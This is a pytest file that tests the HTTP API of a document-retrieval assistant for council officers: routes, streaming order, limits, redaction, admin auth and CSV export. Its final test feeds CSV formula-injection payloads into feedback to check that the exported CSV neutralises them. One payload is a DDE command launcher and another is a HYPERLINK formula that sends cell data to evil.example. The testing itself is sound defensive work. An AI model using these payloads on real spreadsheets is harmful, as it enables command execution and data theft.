"""The HTTP API around a fake assistant: every route, SSE order, limits, admin auth, traces."""

from __future__ import annotations

import csv
import io
import json
import sys
import threading
import time
import types
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import FakeAssistant, FakeOfficer
from docx import Document as DocxDocument
from fastapi.testclient import TestClient
from pydantic import SecretStr

from assistant.app import Services
from assistant.errors import IndexNotFoundError
from assistant.index import Index
from assistant.settings import Settings
from assistant.traces import TraceStore
from tests.helpers import ANSWER_CONTRACT_KEYS
from ui.api.app import create_app
from ui.api.deps import AppState

QUESTION = "How have councils used action learning sets?"


@pytest.fixture
def client(
    fake_assistant: FakeAssistant, fake_officer: FakeOfficer, api_settings: Settings
) -> Iterator[TestClient]:
    app = create_app(
        assistant=fake_assistant, settings=api_settings, officer_tools=fake_officer, chat=False
    )
    with TestClient(app) as test_client:
        yield test_client


def _admin_client(settings: Settings, token: str | None, **kw: Any) -> TestClient:
    secret = SecretStr(token) if token is not None else None
    settings = settings.model_copy(
        update={"api": settings.api.model_copy(update={"admin_token": secret})}
    )
    app = create_app(settings=settings, chat=False, **kw)
    return TestClient(app)


def parse_sse(text: str) -> list[tuple[str, Any]]:
    events = []
    for frame in text.strip().split("\n\n"):
        lines = dict(line.split(": ", 1) for line in frame.splitlines())
        events.append((lines["event"], json.loads(lines["data"])))
    return events


# --- probes -----------------------------------------------------------------------------------


def test_healthz_and_readyz_when_ready(client: TestClient, fake_assistant: FakeAssistant) -> None:
    assert client.get("/healthz").json()["status"] == "ok"
    ready = client.get("/readyz")
    assert ready.status_code == 200
    assert ready.json()["details"]["chunks"] == 3
    assert fake_assistant.warmed == 1  # warmed once, at start-up


def test_readyz_503_with_reason_when_index_missing(
    api_settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    def missing(settings: Settings, *, index: object = None) -> None:
        raise IndexNotFoundError("No index at data/chroma: run `lga-assistant ingest` first.")

    monkeypatch.setattr("assistant.app.build_services", missing)
    with TestClient(create_app(settings=api_settings, chat=False)) as client:
        assert client.get("/healthz").status_code == 200
        ready = _wait_for(client, lambda r: "ingest" in (r.json()["reason"] or ""))
        assert ready.status_code == 503
        assert "lga-assistant ingest" in ready.json()["reason"]
        ask = client.post("/api/ask", json={"question": QUESTION})
        assert ask.status_code == 503
        assert ask.json()["error"]["code"] == "not_ready"
        assert "ingest" in ask.json()["error"]["message"]


def _wait_for(client: TestClient, done: Any, timeout: float = 10.0) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        response = client.get("/readyz")
        if done(response) or time.monotonic() > deadline:
            return response
        time.sleep(0.02)


def test_assistant_loads_in_background_with_healthz_up_meanwhile(
    api_settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    release = threading.Event()
    built: list[FakeAssistant] = []

    def slow_build(settings: Settings, *, index: object = None) -> Services:
        release.wait(10)
        built.append(FakeAssistant())
        return Services(built[-1], FakeOfficer(), Index.in_memory(settings=settings))  # type: ignore[arg-type]

    monkeypatch.setattr("assistant.app.build_services", slow_build)
    with TestClient(create_app(settings=api_settings, chat=False)) as client:
        assert client.get("/healthz").status_code == 200
        starting = client.get("/readyz")
        assert starting.status_code == 503 and "starting up" in starting.json()["reason"]
        busy = client.post("/api/ask", json={"question": QUESTION})
        assert busy.status_code == 503 and busy.json()["error"]["code"] == "not_ready"
        release.set()
        assert _wait_for(client, lambda r: r.status_code == 200).status_code == 200
        assert client.post("/api/ask", json={"question": QUESTION}).status_code == 200
    assert built[0].warmed == 1


def test_readyz_503_when_assistant_not_ready(api_settings: Settings) -> None:
    class Cold(FakeAssistant):
        def ready(self) -> bool:
            return False

    with TestClient(create_app(assistant=Cold(), settings=api_settings, chat=False)) as client:
        assert client.get("/readyz").status_code == 503


# --- ask --------------------------------------------------------------------------------------


def test_ask_returns_answer_contract_and_records_trace(
    client: TestClient, fake_assistant: FakeAssistant, api_settings: Settings
) -> None:
    body = {
        "question": QUESTION,
        "audience": "officer",
        "history": [
            {"role": "user", "content": "Tell me about leadership"},
            {"role": "assistant", "content": "Leadership matters [1]."},
        ],
        "filters": {"doc_types": ["learning_document"], "themes": ["leadership"]},
    }
    response = client.post("/api/ask", json=body)
    assert response.status_code == 200
    data = response.json()
    assert set(data) >= ANSWER_CONTRACT_KEYS
    assert data["audience"] == "officer" and "[1]" in data["answer"]
    assert data["citations"][0]["page"] == 2 and data["citations"][0]["section"]
    assert data["peers"][0]["name"] == "Brighton and Hove City Council"
    assert data["next_steps"][0]["framework"] == "7Cs: Capability"
    call = fake_assistant.calls[-1]
    assert call["audience"] == "officer" and len(call["history"]) == 2
    assert call["filters"].doc_types == ("learning_document",)
    assert call["filters"].themes == ("leadership",)
    trace = TraceStore(api_settings.traces_path).trace(data["id"])
    assert trace is not None and trace["client"] == "api"
    assert [h["chunk_id"] for h in trace["hits"]][0] == data["citations"][0]["chunk_id"]


def test_refused_answer_is_an_answer_not_an_error(client: TestClient) -> None:
    data = client.post("/api/ask", json={"question": "Write me a poem"}).json()
    assert data["refused"] is True and data["refusal_reason"]
    assert data["citations"] == [] and data["peers"] == []


def test_question_limits(client: TestClient, api_settings: Settings) -> None:
    too_long = "x" * (api_settings.api.max_question_chars + 1)
    response = client.post("/api/ask", json={"question": too_long})
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "question_too_long"
    assert "1,000" in response.json()["error"]["message"]

    history = [{"role": "user", "content": "hi"}] * (api_settings.api.max_history_turns + 1)
    response = client.post("/api/ask", json={"question": QUESTION, "history": history})
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "history_too_long"

    response = client.post("/api/ask", json={"question": "   "})
    assert response.status_code == 422

    response = client.post("/api/ask", json={"question": QUESTION, "audience": "mayor"})
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "invalid_request"
    assert "audience" in response.json()["error"]["message"]


def test_request_body_cap_gives_413_json(client: TestClient, api_settings: Settings) -> None:
    big = json.dumps({"question": "q", "comment": "x" * api_settings.api.max_body_bytes})
    response = client.post("/api/ask", content=big, headers={"content-type": "application/json"})
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it streams in
        yield b'{"question": "'
        for _ in range(10):
            yield b"y" * (api_settings.api.max_body_bytes // 5)
        yield b'"}'

    response = client.post(
        "/api/ask", content=chunks(), headers={"content-type": "application/json"}
    )
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"


def test_malformed_json_is_a_json_422(client: TestClient) -> None:
    response = client.post(
        "/api/ask", content=b"{not json", headers={"content-type": "application/json"}
    )
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "invalid_request"


# --- streaming --------------------------------------------------------------------------------


def test_stream_event_order_and_trace(client: TestClient, api_settings: Settings) -> None:
    response = client.post("/api/ask/stream", json={"question": QUESTION})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/event-stream")
    events = parse_sse(response.text)
    kinds = [kind for kind, _ in events]
    assert kinds[0] == "sources" and kinds[-2:] == ["suggestions", "done"]
    assert set(kinds[1:-2]) == {"token"} and len(kinds) > 4
    assert events[0][1]["citations"][0]["n"] == 1
    text = "".join(data["text"] for kind, data in events if kind == "token")
    done = events[-1][1]
    assert text.strip() == done["answer"]
    assert events[-2][1]["peers"][0]["name"] == "Brighton and Hove City Council"
    assert TraceStore(api_settings.traces_path).exists(done["id"])


def test_stream_error_event(client: TestClient) -> None:
    events = parse_sse(client.post("/api/ask/stream", json={"question": "boom now"}).text)
    assert [k for k, _ in events] == ["sources", "error"]
    assert events[-1][1]["error"] == {"code": "provider_error", "message": "Provider down."}


def test_stream_bad_input_is_4xx_before_streaming(client: TestClient) -> None:
    response = client.post("/api/ask/stream", json={"question": "x" * 5000})
    assert response.status_code == 422


@pytest.mark.parametrize("question", ["", "   ", "\u200b", "\u200b\u200d\ufeff", "\u2800 \n"])
def test_empty_and_invisible_only_questions_get_the_same_422(  # #15.17
    client: TestClient, question: str
) -> None:
    for path in ("/api/ask", "/api/ask/stream", "/api/pack"):
        response = client.post(path, json={"question": question})
        assert response.status_code == 422, (path, response.text)
        assert response.json()["error"]["code"] == "question_empty", (path, response.text)


def test_malformed_json_names_the_body_not_a_number(client: TestClient) -> None:  # #15.17
    response = client.post(
        "/api/ask",
        content=b'{"question": "x",, "audience": "officer"}',
        headers={"Content-Type": "application/json"},
    )
    assert response.status_code == 422
    error = response.json()["error"]
    assert error["code"] == "invalid_request"
    assert error["details"] == [{"field": "body", "problem": error["details"][0]["problem"]}]
    assert error["message"].startswith("The request body is not valid JSON at character 17")
    assert not error["message"].startswith("17")


# --- feedback ---------------------------------------------------------------------------------


def test_feedback_stored_and_unknown_answer_404(client: TestClient, api_settings: Settings) -> None:
    answer_id = client.post("/api/ask", json={"question": QUESTION}).json()["id"]
    response = client.post(
        "/api/feedback",
        json={
            "answer_id": answer_id,
            "rating": "down",
            "reasons": ["Not accurate"],
            "comment": "Email me at a.person@example.com",
        },
    )
    assert response.status_code == 201
    assert response.json() == {"status": "stored", "answer_id": answer_id}
    rows = TraceStore(api_settings.traces_path).feedback_rows()
    assert rows[0]["rating"] == "down" and rows[0]["reasons"] == ["Not accurate"]
    assert "[EMAIL]" in rows[0]["comment"] and "a.person" not in rows[0]["comment"]

    missing = client.post("/api/feedback", json={"answer_id": "nope", "rating": "up"})
    assert missing.status_code == 404
    assert missing.json()["error"]["code"] == "answer_not_found"
    bad = client.post("/api/feedback", json={"answer_id": answer_id, "rating": "meh"})
    assert bad.status_code == 422


def test_traces_redact_personal_data(client: TestClient, api_settings: Settings) -> None:
    question = "I am jo@example.org, NI JG103759A, phone 07700 900123: how do I join?"
    answer_id = client.post("/api/ask", json={"question": question}).json()["id"]
    trace = TraceStore(api_settings.traces_path).trace(answer_id)
    assert trace is not None
    for secret in ("jo@example.org", "JG103759A", "07700 900123"):
        assert secret not in trace["question"]
    assert "[EMAIL]" in trace["question"] and "[NI NUMBER]" in trace["question"]


# --- library ----------------------------------------------------------------------------------


def test_search_ranks_passages_with_scores_and_filters(
    client: TestClient, fake_assistant: FakeAssistant
) -> None:
    data = client.get("/api/search", params={"q": "action learning sets", "k": 2}).json()
    assert data["k"] == 2 and len(data["results"]) == 2
    scores = [r["score"] for r in data["results"]]
    assert scores == sorted(scores, reverse=True)
    assert data["results"][0]["document_id"] == "als"
    filtered = client.get(
        "/api/search", params=[("q", "network"), ("doc_type", "guidance"), ("theme", "networks")]
    ).json()
    assert {r["document_id"] for r in filtered["results"]} == {"network"}
    assert fake_assistant.calls[-1]["filters"].doc_types == ("guidance",)
    assert client.get("/api/search", params={"q": "x", "k": 0}).status_code == 422
    assert client.get("/api/search").status_code == 422


def test_documents_list_and_detail(client: TestClient) -> None:
    listing = client.get("/api/documents").json()
    assert listing["count"] == 2
    assert {d["id"]: d["chunks"] for d in listing["documents"]} == {"als": 2, "network": 1}
    detail = client.get("/api/documents/als").json()
    assert detail["document"]["title"].startswith("Action learning")
    assert [c["position"] for c in detail["chunks"]] == [0, 1]
    missing = client.get("/api/documents/unknown-doc")
    assert missing.status_code == 404
    assert missing.json()["error"]["code"] == "document_not_found"


# --- officer tools ----------------------------------------------------------------------------


def test_cases_filters_and_citations(client: TestClient) -> None:
    data = client.get("/api/cases", params={"region": "London"}).json()
    assert data["count"] == 1
    case = data["cases"][0]
    assert case["council"] == "London Borough of Newham" and case["type"] == "london borough"
    assert case["citations"][0]["quote"].startswith("Newham")
    assert client.get("/api/cases", params={"q": "action"}).json()["count"] == 1


def test_pack_docx_and_markdown(client: TestClient, fake_officer: FakeOfficer) -> None:
    response = client.post("/api/pack", json={"question": QUESTION})
    assert response.status_code == 200
    assert response.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;") and ".docx" in disposition
    assert "evidence-pack-how-have-councils-used" in disposition
    doc = DocxDocument(io.BytesIO(response.content))
    assert any(p.text == "References" for p in doc.paragraphs)
    assert fake_officer.packs[-1][1] == "docx"

    md = client.post("/api/pack?format=md", json={"question": QUESTION})
    assert md.headers["content-type"].startswith("text/markdown")
    assert md.text.startswith("# Evidence pack")
    assert client.post("/api/pack?format=pdf", json={"question": QUESTION}).status_code == 422


def test_pack_for_refused_question_is_422(client: TestClient) -> None:
    response = client.post("/api/pack", json={"question": "Write a poem"})
    assert response.status_code == 422
    assert "don't cover" in response.json()["error"]["message"]


def test_assess(client: TestClient) -> None:
    ratings = {"leadership of place": 2, "capacity to deliver": 4, "financial planning": 1}
    data = client.post("/api/assess", json={"ratings": ratings}).json()
    # Every area at or below 2 is advised, weakest first (#15.15).
    assert [a["label"] for a in data["weakest"]] == [
        "TIEx: financial planning",
        "TIEx: leadership of place",
    ]
    area = data["weakest"][0]
    assert area["rating"] == 1 and area["next_steps"][0]["framework"] == "TIEx: financial planning"
    assert area["citations"][0]["n"] == 1 and area["peers"][0]["citations"] == [1]
    assert data["ratings"] == ratings
    bad = client.post("/api/assess", json={"ratings": {"capacity to deliver": 7}})
    assert bad.status_code == 422 and bad.json()["error"]["code"] == "invalid_rating"


# --- admin ------------------------------------------------------------------------------------


def test_admin_routes_off_when_no_token(
    api_settings: Settings, fake_assistant: FakeAssistant
) -> None:
    with _admin_client(api_settings, None, assistant=fake_assistant) as client:
        for method, path in (
            ("post", "/api/admin/ingest"),
            ("get", "/api/admin/feedback.csv"),
            ("get", "/api/admin/gaps"),
        ):
            response = client.request(method, path, headers={"Authorization": "Bearer x"})
            assert response.status_code == 404, path
            assert response.json()["error"]["code"] == "not_found"


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": "Bearer wrong"},
        {"Authorization": "s3cret"},
        {"Authorization": "Basic s3cret"},
    ],
)
def test_admin_refuses_missing_or_wrong_token(
    api_settings: Settings, fake_assistant: FakeAssistant, headers: dict[str, str]
) -> None:
    with _admin_client(api_settings, "s3cret", assistant=fake_assistant) as client:
        for method, path in (
            ("post", "/api/admin/ingest"),
            ("get", "/api/admin/feedback.csv"),
            ("get", "/api/admin/gaps"),
        ):
            response = client.request(method, path, headers=headers)
            assert response.status_code == 401, path
            assert response.headers["www-authenticate"] == "Bearer"


def test_admin_token_read_from_environment(
    monkeypatch: pytest.MonkeyPatch, data_dir: Path, fake_assistant: FakeAssistant
) -> None:
    monkeypatch.setenv("LGA_ASSISTANT_API__ADMIN_TOKEN", "from-env")
    settings = Settings(data_dir=data_dir)
    with TestClient(create_app(assistant=fake_assistant, settings=settings, chat=False)) as c:
        ok = c.get("/api/admin/gaps", headers={"Authorization": "Bearer from-env"})
        assert ok.status_code == 200 and ok.json() == {"groups": []}


def test_admin_feedback_csv_and_gaps(api_settings: Settings, fake_assistant: FakeAssistant) -> None:
    auth = {"Authorization": "Bearer s3cret"}
    with _admin_client(api_settings, "s3cret", assistant=fake_assistant) as client:
        good = client.post("/api/ask", json={"question": QUESTION}).json()["id"]
        refused = client.post("/api/ask", json={"question": "Who will win the election?"}).json()
        client.post(
            "/api/feedback",
            json={"answer_id": good, "rating": "up", "reasons": ["Clear and easy to read"]},
        )
        response = client.get("/api/admin/feedback.csv", headers=auth)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert [(r["answer_id"], r["rating"], r["reasons"]) for r in rows] == [
            (good, "up", "Clear and easy to read")
        ]
        gaps = client.get("/api/admin/gaps", headers=auth).json()["groups"]
        ids = {q["answer_id"] for g in gaps for q in g["questions"]}
        assert ids == {refused["id"]}


def test_admin_ingest_runs_pipeline_on_configured_dirs(
    api_settings: Settings,
    fake_assistant: FakeAssistant,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    seen: dict[str, Any] = {}

    class Report:
        def to_dict(self) -> dict[str, Any]:
            return {"documents": [], "totals": {"added": 1}}

    class Pipeline:
        def __init__(self, index: Any, settings: Settings) -> None:
            seen["index"] = index

        def ingest_paths(self, paths: list[Path], *, prune: bool, progress: bool) -> Report:
            seen.update(paths=paths, prune=prune, progress=progress)
            return Report()

    fake_module = types.ModuleType("ingest.pipeline")
    fake_module.Pipeline = Pipeline  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "ingest.pipeline", fake_module)
    settings = api_settings.model_copy(update={"document_dirs": [docs]})
    with _admin_client(settings, "s3cret", assistant=fake_assistant) as client:
        client.app.state.lga.index = "the-index"  # type: ignore[attr-defined]  # the services' index
        response = client.post(
            "/api/admin/ingest?prune=true", headers={"Authorization": "Bearer s3cret"}
        )
    assert response.status_code == 200
    assert response.json()["totals"] == {"added": 1}
    assert seen["index"] == "the-index" and seen["prune"] is True and seen["progress"] is False
    assert docs in seen["paths"]


# --- misc -------------------------------------------------------------------------------------


def test_unknown_route_is_json_404_and_openapi_documents_routes(client: TestClient) -> None:
    response = client.get("/api/nothing-here")
    assert response.status_code == 404 and response.json()["error"]["code"] == "not_found"
    paths = client.get("/openapi.json").json()["paths"]
    for path in (
        "/api/ask",
        "/api/ask/stream",
        "/api/search",
        "/api/documents",
        "/api/cases",
        "/api/pack",
        "/api/assess",
        "/api/feedback",
        "/healthz",
        "/readyz",
    ):
        assert path in paths
    docs = client.get("/docs")
    assert docs.status_code == 200 and "/api/ask/stream" in docs.text
    assert "cdn" not in docs.text.lower() and "<script" not in docs.text.lower()


def test_cors_off_by_default_and_on_for_configured_origins(
    client: TestClient, api_settings: Settings, fake_assistant: FakeAssistant
) -> None:
    origin = {"Origin": "https://intranet.example.gov.uk"}
    assert "access-control-allow-origin" not in client.get("/healthz", headers=origin).headers
    settings = api_settings.model_copy(
        update={"api": api_settings.api.model_copy(update={"cors_origins": [origin["Origin"]]})}
    )
    with TestClient(create_app(assistant=fake_assistant, settings=settings, chat=False)) as c:
        allowed = c.get("/healthz", headers=origin)
        assert allowed.headers["access-control-allow-origin"] == origin["Origin"]


def test_blocking_calls_run_off_the_event_loop(api_settings: Settings) -> None:
    import threading

    loop_threads: set[int] = set()

    class Recording(FakeAssistant):
        def ask(self, question: str, **kw: Any) -> Any:
            loop_threads.add(threading.get_ident())
            return super().ask(question, **kw)

    app = create_app(assistant=Recording(), settings=api_settings, chat=False)

    @app.get("/_loop_thread")
    async def loop_thread() -> dict[str, int]:
        return {"id": threading.get_ident()}

    with TestClient(app) as client:
        client.post("/api/ask", json={"question": QUESTION})
        loop_id = client.get("/_loop_thread").json()["id"]
    assert loop_threads and loop_id not in loop_threads
    assert isinstance(app.state.lga, AppState)


def test_feedback_reasons_must_be_known_and_the_csv_runs_no_formula(  # #15.6
    api_settings: Settings, fake_assistant: FakeAssistant
) -> None:
    auth = {"Authorization": "Bearer s3cret"}
    with _admin_client(api_settings, "s3cret", assistant=fake_assistant) as client:
        answer_id = client.post("/api/ask", json={"question": QUESTION}).json()["id"]
        bad = client.post(
            "/api/feedback",
            json={"answer_id": answer_id, "rating": "down", "reasons": ["=cmd|' /C calc'!A0"]},
        )
        assert bad.status_code == 422
        assert bad.json()["error"]["code"] == "invalid_input"
        assert "Not accurate" in bad.json()["error"]["message"]
        ok = client.post(
            "/api/feedback",
            json={
                "answer_id": answer_id,
                "rating": "down",
                "reasons": ["Not accurate"],
                "comment": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            },
        )
        assert ok.status_code == 201, ok.text
        text = client.get("/api/admin/feedback.csv", headers=auth).text
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["comment"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["reasons"] == "Not accurate"
